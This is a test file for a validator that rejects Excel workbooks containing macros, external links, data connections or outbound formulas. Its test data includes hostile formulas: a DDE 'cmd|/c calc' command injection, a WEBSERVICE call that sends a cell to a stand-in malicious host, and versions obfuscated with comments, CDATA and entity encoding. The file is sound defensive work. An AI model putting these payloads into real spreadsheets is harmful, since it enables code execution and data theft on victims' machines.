import { describe, expect, test } from 'vitest'
import type { Refused } from './serve-apart.ts'
import { refusedPart, refuseOutside } from './xlsx-outside.ts'

/** The code by which a part of a workbook is refused, or that it is taken. */
function judge(name: string, xml: string): string {
	try {
		refuseOutside(name, xml)
		return 'taken'
	} catch (error) {
		return (error as Refused).code
	}
}

describe('by its name', () => {
	test.each([
		'xl/vbaProject.bin',
		'XL/VBAPROJECT.BIN',
		'xl/vbaProject2.bin',
		'makro/vbaProject.bin',
		'xl\\vbaProject.bin',
		'xl/vbaProjectSignature.bin',
		'xl/vbaData.xml',
		'xl/macrosheets/sheet1.xml',
		'xl/activeX/activeX1.bin',
	])('%s is a program', (name) => {
		expect(refusedPart(['xl/workbook.xml', name])?.[0]).toBe('file_with_macros')
	})

	test.each(['xl/externalLinks/externalLink1.xml', 'xl/ExternalLinks/_rels/a.rels'])(
		'%s is a link',
		(name) => {
			expect(refusedPart([name])?.[0]).toBe('file_with_links')
		},
	)

	test.each([
		'xl/connections.xml',
		'xl\\Connections1.xml',
		'xl/connections.bin',
		'xl/queryTables/queryTable1.xml',
		'xl/QueryTables/_rels/queryTable1.xml.rels',
	])('%s fetches data', (name) => {
		const [code, sentence] = refusedPart(['xl/workbook.xml', name]) ?? []
		expect(code).toBe('file_with_links')
		expect(sentence).toContain('koneksi data')
	})

	test('parts of a plain workbook are taken', () => {
		const plain = ['[Content_Types].xml', 'xl/workbook.xml', 'xl/printerSettings/printerSettings1.bin']
		expect(
			refusedPart([...plain, 'xl/theme/theme1.xml', 'docProps/app.xml', 'xl/media/image1.png']),
		).toBeNull()
		// Tables, pivots and drawings of Excel, the settings of WPS and LibreOffice, what is left of a query that was deleted.
		expect(
			refusedPart([
				...plain,
				...['xl/tables/table1.xml', 'xl/pivotCache/pivotCacheDefinition1.xml', 'xl/calcChain.xml'],
				...['xl/drawings/drawing1.xml', 'docProps/custom.xml', 'customXml/item1.xml', 'xl/metadata.xml'],
				'xl/drawings/connections/gambar.png',
			]),
		).toBeNull()
	})
})

describe('by its kinds of contents', () => {
	const MAIN = 'application/vnd.openxmlformats-officedocument.spreadsheetml'
	const types = (kind: string) =>
		judge('[Content_Types].xml', `<Types><Override PartName="/a" ContentType="${kind}"/></Types>`)

	test.each([
		'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
		'application/vnd.ms-excel.template.MACROENABLED.main+xml',
		'application/vnd.ms-excel.sheet.macro&#x45;nabled.main+xml',
		'application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml',
		'application/vnd.ms-office.vbaProject',
		'application/vnd.ms-office.activeX+xml',
	])('%s is a program', (kind) => {
		expect(types(kind)).toBe('file_with_macros')
	})

	test('links are told by their kind, plain sheets taken', () => {
		expect(types(`${MAIN}.externalLink+xml`)).toBe('file_with_links')
		for (const kind of ['connections', 'queryTable'])
			expect(types(`${MAIN}.${kind}+xml`)).toBe('file_with_links')
		expect(types(`${MAIN}.sheet.main+xml`)).toBe('taken')
		expect(types(`${MAIN}.table+xml`)).toBe('taken')
		expect(types(`${MAIN}.printerSettings`)).toBe('taken')
	})

	test('in UTF-16 too', () => {
		const wide = [...'<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>'].join(
			'\0',
		)
		expect(judge('[Content_Types].xml', wide)).toBe('file_with_macros')
	})
})

describe('by what it is related to', () => {
	const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
	const related = (type: string, more = '') =>
		judge(
			'xl/_rels/a.rels',
			`<Relationships><Relationship Id="r" Type="${type}" Target="x"${more}/></Relationships>`,
		)

	test.each([
		['http://schemas.microsoft.com/office/2006/relationships/vbaProject', '', 'file_with_macros'],
		['http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet', '', 'file_with_macros'],
		[`${OFFICE}/externalLink`, '', 'file_with_links'],
		[`${OFFICE}/externalLinkPath`, ' TargetMode="External"', 'file_with_links'],
		[`${OFFICE}/image`, ' TargetMode="External"', 'file_with_links'],
		[`${OFFICE}/attachedTemplate`, " targetmode = 'external'", 'file_with_links'],
		[`${OFFICE}/connections`, '', 'file_with_links'],
		[`${OFFICE}/queryTable`, '', 'file_with_links'],
		[`${OFFICE}/table`, '', 'taken'],
		[`${OFFICE}/image`, '', 'taken'],
		// Excel makes one of every e-mail address.
		[`${OFFICE}/hyperlink`, ' TargetMode="External"', 'taken'],
	])('%s%s is %s', (type, more, found) => {
		expect(related(type, more)).toBe(found)
	})
})

describe('by its formulas', () => {
	const formula = (xml: string, tag = 'f') =>
		judge('xl/worksheets/sheet1.xml', `<c><${tag}>${xml}</${tag.split(' ')[0]}></c>`)

	test.each([
		'WEBSERVICE("http://jahat.test/?"&amp;A1)',
		'_xlfn.WEBSERVICE(A1)',
		'1+webservice (A1)',
		'_xlfn.IMAGE("http://jahat.test/a.png")',
		'DDE("soffice";"a.ods";"A1")',
		'RTD("prog",,"a")',
		'REGISTER.ID("a","b")',
		"cmd|'/c calc'!A0",
		'cmd|&#39;/c calc&#39;!A0',
		'[1]Lembar1!A1',
		"'[1]Lembar satu'!A1",
		"'C:\\data\\[gaji.xlsx]Lembar1'!A1",
		'<![CDATA[WEBSERVICE("http://jahat.test")]]>',
		'WEB<!-- -->SERVICE(A1)',
	])('%s leads outside', (text) => {
		expect(formula(text)).toBe('file_with_links')
	})

	test.each([
		'f a="b>&quot;"',
		'x:f',
		'formula',
		'formula1',
		'definedName name="a"',
		'calculatedColumnFormula',
	])('also as <%s>', (tag) => {
		expect(formula('WEBSERVICE(A1)', tag)).toBe('file_with_links')
	})

	test.each([
		'SUM(A1:A3)',
		'IF(A1&lt;3,"WEBSERVICE(x)","a|b")',
		"SUM('Nilai|UTS'!A1)",
		'SUM(Tabel1[2024])+Lembar2!A1',
		'Tabel1[[#This Row],[UTS|UAS]]',
		'HYPERLINK("https://kampus.test","Situs")',
		'RECALL(1)+MYDDE(2)',
		'&#9999999;',
	])('%s does not', (text) => {
		expect(formula(text)).toBe('taken')
	})

	test('words of a cell are no formula', () => {
		expect(judge('xl/sharedStrings.xml', '<sst><si><t>=WEBSERVICE(A1) cmd|x!A0</t></si></sst>')).toBe('taken')
	})
})
